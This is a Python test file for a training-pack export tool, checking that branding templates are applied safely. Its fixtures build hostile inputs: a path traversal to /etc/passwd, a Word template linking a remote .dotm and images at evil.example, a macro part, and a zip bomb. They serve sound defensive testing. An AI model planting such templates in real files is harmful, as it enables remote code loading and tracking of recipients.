"""The brand of a pack: logo, colour and templates of one's own, none of which can do harm."""

import io
import zipfile

import docx
import pptx
import pytest
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import RGBColor

from casebook.export.artefacts import Artefact, Format
from casebook.export.brand import contrast_on_white, readable
from casebook.export.branding import brand_of
from casebook.export.steady_zip import pack, repacked
from casebook.markdown.reading import read_document
from tests.unit.export.conftest import words_of

PACK = """\
---
kind: pack
title: An hour
objectives: [See it]
lessons: [look]
brand:
{brand}
---
## Agenda
| Minutes | Activity | Item | Use | Note |
| --- | --- | --- | --- | --- |
| 5 | open | | | |
| 5 | read | [[line]] | situation | |
| 5 | role-play | [[line]] | | |
| 5 | worksheet | [[line]] | | |
"""
LINE = """\
---
title: A line
redact: ["Bruce → the customer"]
---
## Situation
1. One
   - Two
2. Three

> Quoted

| A | B |
| --- | --- |
| 1 | 2 |

## Risks
| Side | Risk | Likelihood | Severity | Response |
| --- | --- | --- | --- | --- |
| safety | A fall | 2 | 4 | A mat |

## Role-play
### Scene
A desk.
### Customer
Wait.
"""
LOOK = "---\nkind: lesson\ntitle: Look up\n---\n## Why\nBecause.\n"
GREEN = '  logo: files/logo.png\n  colour: "#2a9d8f"'


@pytest.fixture
def branded(exported, picture):
    """Export a pack with a brand; ``beside`` are more files of the library."""

    def run(brand, *artefacts, beside=None, **wanted):
        files = {"hour.md": PACK.format(brand=brand), "line.md": LINE, "look.md": LOOK}
        files |= {"files/logo.png": picture(300, 100)} | (beside or {})
        return exported(files, "hour", artefacts=frozenset(artefacts), **wanted)

    return run


def codes_of(made):
    return {problem.code: problem.message for problem in made.problems}


def house_file(change=lambda page: None):
    """Make a Word file with a look of its own, a text, and what a caller adds."""
    page = docx.Document()
    page.styles["Heading 1"].font.color.rgb = RGBColor(0xAA, 0x00, 0x11)
    page.sections[0].header.paragraphs[0].text = "The house"
    page.add_paragraph("Words of the template")
    change(page)
    out = io.BytesIO()
    page.save(out)
    return out.getvalue()


def house_slides(change=lambda show: None):
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[1])
    slide.shapes.title.text = "Words of the template"
    slide.notes_slide.notes_text_frame.text = "Notes of the template"
    change(show)
    out = io.BytesIO()
    show.save(out)
    return out.getvalue()


def test_logo_and_colour_are_in_every_page_file(branded):
    files, made = branded(GREEN, *Artefact)
    for name, data in files.items():
        if name.endswith((".docx", ".pptx")) and "feedback" not in name:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                listed = archive.namelist()
                assert any("media/" in part for part in listed), name
            assert "238378" in words_of(name, data), name
        if name.endswith(".pdf"):
            assert b"/Subtype/Image" in data.replace(b" ", b""), name
    assert "3.3 to 1" in codes_of(made)["brand-contrast"]


def test_a_colour_that_can_be_read_stays():
    assert readable("1F3F77") == "1F3F77"
    assert contrast_on_white("FFFFFF") == pytest.approx(1)
    assert contrast_on_white(readable("FFFF00")) >= 4.5


@pytest.mark.parametrize(
    ("brand", "code"),
    [
        ("  colour: turquoise", "brand-colour"),
        ("  logo: files/none.png", "brand-logo"),
        ("  logo: hour.md", "brand-logo"),
        ("  logo: ../../etc/passwd", "brand-logo"),
        ("  docx: files/none.docx", "brand-template"),
        ("  docx: files/house.docm", "brand-template"),
        ("  docx: files/broken.docx", "brand-template"),
        ("  pptx: files/broken.pptx", "brand-template"),
        ("  pptx: files/house.docx", "brand-template"),
        ("  slogan: Ever onward", "brand-key"),
    ],
)
def test_what_cannot_be_had_is_said_and_done_without(branded, brand, code):
    beside = {"files/broken.docx": "no archive", "files/broken.pptx": pack({"a.xml": b"<a/>"})}
    files, made = branded(brand, Artefact.HANDOUT, Artefact.SLIDES, beside=beside)
    assert code in codes_of(made)
    assert len(files) == 4


def test_the_brand_is_read_in_either_way_of_writing_and_from_nothing_else():
    def read(front):
        return brand_of(read_document(f"---\n{front}\n---\n", "a.md"))

    assert read('brand: {color: "#abc", logo: a.png}') == {"colour": "#abc", "logo": "a.png"}
    assert read("brand: Acme") == {}
    assert read("brand: [a, b]") == {}
    assert read("title: A") == {}


def test_a_word_template_gives_its_styles_and_header_and_not_its_words(branded):
    beside = {"files/house.docx": house_file()}
    files, made = branded("  docx: files/house.docx", Artefact.GUIDE, beside=beside)
    page = docx.Document(io.BytesIO(files["an-hour-guide-facilitator.docx"]))
    assert page.styles["Heading 1"].font.color.rgb == RGBColor(0xAA, 0x00, 0x11)
    head = [paragraph.text for paragraph in page.sections[-1].header.paragraphs]
    assert head == ["The house", "For facilitators only. Do not hand this out."]
    assert "Words of the template" not in words_of(
        "a.docx", files["an-hour-guide-facilitator.docx"]
    )
    assert not codes_of(made)


def test_a_word_template_without_our_styles_borrows_them(branded):
    def bare(page):
        for name in ("List Number", "List Bullet 2", "Quote", "Table Grid", "Title"):
            page.styles[name].element.getparent().remove(page.styles[name].element)

    beside = {"files/house.docx": house_file(bare)}
    files, _ = branded("  docx: files/house.docx", Artefact.GUIDE, beside=beside)
    page = docx.Document(io.BytesIO(files["an-hour-guide-facilitator.docx"]))
    used = {paragraph.style.name for paragraph in page.paragraphs}
    assert {"Title", "List Number", "List Bullet 2", "Quote"} <= used


def test_a_hostile_word_template_brings_nothing_along(branded):
    def hostile(page):
        out = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        part = page.part._settings_part
        name = part.relate_to("http://evil.example/t.dotm", f"{out}attachedTemplate", True)
        attached = OxmlElement("w:attachedTemplate")
        attached.set(qn("r:id"), name)
        page.settings.element.append(attached)
        head = page.sections[0].header
        name = head.part.relate_to("http://evil.example/p.png", f"{out}image", True)
        picture = f'<w:pict {nsdecls("w")}><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
        picture += 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
        head.paragraphs[0].add_run()._r.append(parse_xml(f'{picture}r:id="{name}"/></w:pict>'))
        for piece in ("begin", " INCLUDE", 'PICTURE "http://evil.example/q.png"', "end"):
            run = head.paragraphs[0].add_run()._r
            if piece in {"begin", "end"}:
                mark = OxmlElement("w:fldChar")
                mark.set(qn("w:fldCharType"), piece)
            else:
                mark = OxmlElement("w:instrText")
                mark.text = piece
            run.append(mark)
        page.core_properties.author = "Mallory"
        page.core_properties.comments = "secret"

    beside = {"files/house.docx": house_file(hostile)}
    files, _ = branded("  docx: files/house.docx", Artefact.HANDOUT, beside=beside)
    said = words_of("a.docx", files["an-hour-handout-participant.docx"])
    assert "The house" in said
    for planted in ("evil.example", "INCLUDE", "Mallory", "secret", "attachedTemplate"):
        assert planted not in said


@pytest.mark.parametrize(("kind", "make"), [("docx", house_file), ("pptx", house_slides)])
def test_a_template_with_macros_is_refused(branded, kind, make):
    data = repacked(make(), {"word/vbaProject.bin": b"macro"})
    beside = {f"files/house.{kind}": data}
    _, made = branded(f"  {kind}: files/house.{kind}", Artefact.HANDOUT, beside=beside)
    assert "macros" in codes_of(made)["brand-template"]


def test_a_bomb_is_no_template(branded):
    bomb = pack({"[Content_Types].xml": b"<a/>", "big.xml": b"0" * 70_000_000})
    _, made = branded("  pptx: files/b.pptx", Artefact.SLIDES, beside={"files/b.pptx": bomb})
    assert "too large" in codes_of(made)["brand-template"]


def test_slides_take_master_and_layouts_of_a_template_and_not_its_slides(branded):
    def marked(show):
        show.slide_layouts[1].name = "House layout"
        show.slide_master.part.relate_to("http://evil.example/a", "x/relationships/hyperlink", True)

    beside = {"files/house.pptx": house_slides(marked)}
    files, made = branded("  pptx: files/house.pptx", Artefact.SLIDES, beside=beside)
    data = files["an-hour-slides-participant.pptx"]
    show = pptx.Presentation(io.BytesIO(data))
    assert "House layout" in {slide.slide_layout.name for slide in show.slides}
    said = words_of("a.pptx", data)
    for planted in ("Words of the template", "Notes of the template", "evil.example"):
        assert planted not in said
    assert not codes_of(made)
    for slide in show.slides:
        for shape in slide.shapes:
            assert shape.left >= 0
            assert shape.left + shape.width <= show.slide_width


def test_slides_of_a_template_without_usual_layouts_say_everything(branded):
    def odd(show):
        for layout in show.slide_layouts:
            layout._element.attrib.pop("type", None)

    beside = {"files/house.pptx": house_slides(odd)}
    files, _ = branded("  pptx: files/house.pptx", Artefact.SLIDES, beside=beside)
    said = words_of("a.pptx", files["an-hour-slides-participant.pptx"])
    for words in ("An hour", "See it", "Look up", "A desk."):
        assert words in said


def test_a_slide_file_that_may_have_macros_is_refused(branded):
    data = house_slides()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").replace(
            b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        )
    beside = {"files/house.pptx": repacked(data, {"[Content_Types].xml": types})}
    _, made = branded("  pptx: files/house.pptx", Artefact.SLIDES, beside=beside)
    assert "macros" in codes_of(made)["brand-template"]


def test_a_name_in_a_template_is_said(branded):
    def named(page):
        page.sections[0].header.paragraphs[0].text = "Office of Bruce"

    beside = {"files/house.docx": house_file(named)}
    _, made = branded("  docx: files/house.docx", Artefact.HANDOUT, beside=beside)
    assert "name-in-template" in codes_of(made)


def test_a_template_is_not_asked_for_where_no_such_file_is_made(branded):
    wanted = frozenset({Format.PDF})
    files, _ = branded(GREEN, Artefact.WORKSHEET, formats=wanted)
    assert list(files) == ["an-hour-worksheet-participant.pdf"]


def test_a_bundle_takes_logo_and_templates_along(branded):
    beside = {"files/house.docx": house_file()}
    brand = "  logo: ./files/logo.png\n  docx: files/house.docx\n  pptx: files/none.pptx"
    files, _ = branded(brand, Artefact.BUNDLE, beside=beside)
    with zipfile.ZipFile(io.BytesIO(files["an-hour-bundle.zip"])) as archive:
        listed = set(archive.namelist())
    assert {"library/files/logo.png", "library/files/house.docx"} <= listed


def test_a_case_given_as_a_logo_is_in_no_bundle_with_its_names(branded):
    beside = {"told.md": "---\ntitle: Told\n---\nBruce said so.\n"}
    files, _ = branded("  logo: told.md", Artefact.BUNDLE, beside=beside)
    assert "Bruce said" not in words_of("a.zip", files["an-hour-bundle.zip"])
